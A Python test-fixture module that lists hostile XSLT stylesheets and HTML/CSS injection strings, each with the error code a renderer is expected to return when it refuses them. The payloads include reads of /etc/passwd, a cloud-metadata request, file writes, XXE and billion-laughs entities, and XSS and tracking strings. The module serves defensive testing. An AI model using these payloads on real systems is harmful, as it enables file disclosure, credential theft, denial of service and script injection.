"""Stylesheets that mean harm, each with the reason why it is kept and what is to come of it."""

from __future__ import annotations

from typing import Final, NamedTuple

__all__ = ["HOSTILE", "SCRIPTS", "Hostile", "sheet"]

_HEAD: Final = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:e="http://exslt.org/common" xmlns:d="http://exslt.org/dynamic" xmlns:s="http://icl.com/saxon" '
    'xmlns:x="http://xml.apache.org/xalan/java" extension-element-prefixes="e s">'
)


def sheet(body: str, top: str = "") -> bytes:
    return (
        f'{_HEAD}{top}<xsl:template match="/"><html><body>{body}</body></html></xsl:template></xsl:stylesheet>'.encode()
    )


class Hostile(NamedTuple):
    """One attack.

    Attributes:
        why: what it tries.
        xslt: the stylesheet.
        codes: of the problems that keep it from being shown; which one, where time and memory run a race.
    """

    why: str
    xslt: bytes
    codes: tuple[str, ...]


_LOOP: Final = '<xsl:template name="a"><xsl:call-template name="a"/></xsl:template>'
_SLOW: Final = (
    '<xsl:template name="a"><xsl:param name="n"/><xsl:if test="$n &gt; 0"><xsl:call-template name="a">'
    '<xsl:with-param name="n" select="$n - 1"/></xsl:call-template><xsl:call-template name="a">'
    '<xsl:with-param name="n" select="$n - 1"/>'
    "</xsl:call-template></xsl:if></xsl:template>"
)
_DOUBLING: Final = (
    '<xsl:template name="a"><xsl:param name="t"/><xsl:call-template name="a"><xsl:with-param name="t" '
    'select="concat($t, $t)"/></xsl:call-template></xsl:template>'
)
_START: Final = '<xsl:call-template name="a"><xsl:with-param name="n" select="60"/></xsl:call-template>'
_FILL: Final = '<xsl:call-template name="a"><xsl:with-param name="t" select="//*"/></xsl:call-template>'
_NESTED: Final = '<xsl:for-each select="//*">'
_MANY: Final = f"{_NESTED * 3}<p>{'k' * 200}</p>{'</xsl:for-each>' * 3}"
_EXHAUSTED: Final = ("render.memory", "render.time", "render.stylesheet-broken", "render.output-huge")

HOSTILE: Final = {
    "document-file": Hostile(
        "reads a file of the server into the page",
        sheet("<xsl:copy-of select=\"document('file:///etc/passwd')\"/>"),
        ("render.stylesheet-refused",),
    ),
    "document-relative": Hostile(
        "the same by a path without a scheme",
        sheet("<xsl:copy-of select=\"document('/etc/passwd')\"/>"),
        ("render.stylesheet-refused",),
    ),
    "document-network": Hostile(
        "tells somebody that the invoice was opened, or asks the cloud for its keys",
        sheet("<xsl:copy-of select=\"document('http://169.254.169.254/latest/meta-data/')\"/>"),
        ("render.stylesheet-refused",),
    ),
    "document-computed": Hostile(
        "takes the address from the document, so that looking at the stylesheet finds nothing",
        sheet("<xsl:copy-of select=\"document(concat('fi','le:///etc/hosts'))\"/>"),
        ("render.stylesheet-refused",),
    ),
    "import": Hostile(
        "access control of libxslt does not stop it",
        sheet("", '<xsl:import href="file:///etc/passwd"/>'),
        ("render.stylesheet-refused",),
    ),
    "include": Hostile(
        "the same", sheet("", '<xsl:include href="http://example.invalid/x.xsl"/>'), ("render.stylesheet-refused",)
    ),
    "write-exslt": Hostile(
        "writes a file by exsl:document",
        sheet('<e:document href="file:///tmp/ulak-was-here"><a/></e:document>'),
        ("render.stylesheet-refused",),
    ),
    "write-saxon": Hostile(
        "writes a file by saxon:output, which libxslt knows too",
        sheet('<s:output file="/tmp/ulak-was-here" href="/tmp/ulak-was-here"><a/></s:output>'),
        ("render.stylesheet-refused",),
    ),
    "java": Hostile(
        "calls Java where the processor is Xalan",
        sheet('<xsl:value-of select="x:java.lang.Runtime.getRuntime()"/>'),
        ("render.stylesheet-broken",),
    ),
    "doctype-bomb": Hostile(
        "a billion laughs",
        b'<!DOCTYPE a [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' + sheet("&b;"),
        ("render.stylesheet-refused",),
    ),
    "doctype-file": Hostile(
        "an outside entity",
        b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + sheet("&a;"),
        ("render.stylesheet-refused",),
    ),
    "recursion": Hostile(
        "calls itself for ever", sheet('<xsl:call-template name="a"/>', _LOOP), ("render.stylesheet-broken",)
    ),
    "exponential": Hostile("2^60 calls, never deep", sheet(_START, _SLOW), ("render.time",)),
    "doubling": Hostile("a string that doubles each time", sheet(_FILL, _DOUBLING), _EXHAUSTED),
    "giant-output": Hostile("a page of gigabytes", sheet(_MANY * 4), _EXHAUSTED),
    "not-xml": Hostile("no stylesheet at all", b"GIF89a", ("render.stylesheet-broken",)),
    "not-xslt": Hostile("XML, but no stylesheet", b"<html><body>hi</body></html>", ("render.stylesheet-broken",)),
    "unknown-encoding": Hostile(
        "an encoding that nobody knows",
        b'<?xml version="1.0" encoding="x-nobody"?>' + sheet("x"),
        ("render.stylesheet-broken",),
    ),
}

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)"/>',
    '<img src="http://example.invalid/seen.png"/>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+"/>',
    '<img src="data:text/html;base64,PHNjcmlwdD4="/>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<iframe src="http://example.invalid/"/>',
    '<object data="http://example.invalid/"/>',
    '<embed src="http://example.invalid/"/>',
    '<form action="http://example.invalid/"><input name="a"/><button>b</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://example.invalid/"/>',
    '<base href="http://example.invalid/"/>',
    '<link rel="stylesheet" href="http://example.invalid/x.css"/>',
    "<style>@import 'http://example.invalid/x.css';</style>",
    "<style>a{background:url(http://example.invalid/x.png)}</style>",
    "<style>a{background:\\75rl(http://example.invalid/x.png)}</style>",
    "<style>a{background:u/**/rl(http://example.invalid/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(http://example.invalid/f)}</style>",
    '<p style="background:url(http://example.invalid/x.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background-image:image-set(&quot;http://example.invalid/x&quot; 1x)">x</p>',
    '<svg><script>alert(1)</script><image href="http://example.invalid/"/></svg>',
    '<math><mtext><style><img src="x" onerror="alert(1)"/></style></mtext></math>',
    '<p onmouseover="alert(1)" onload="x" formaction="y" srcdoc="z">x</p>',
    '<table background="http://example.invalid/x.png"><tr><td>x</td></tr></table>',
    '<video src="http://example.invalid/v" autoplay=""/>',
    '<details ontoggle="alert(1)" open="">x</details>',
    "<xsl:comment>[if IE]&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;![endif]</xsl:comment>",
    '<xsl:value-of select="\'&lt;script&gt;alert(1)&lt;/script&gt;\'" disable-output-escaping="yes"/>',
)
"""What a stranger's page may hold that does or fetches something."""
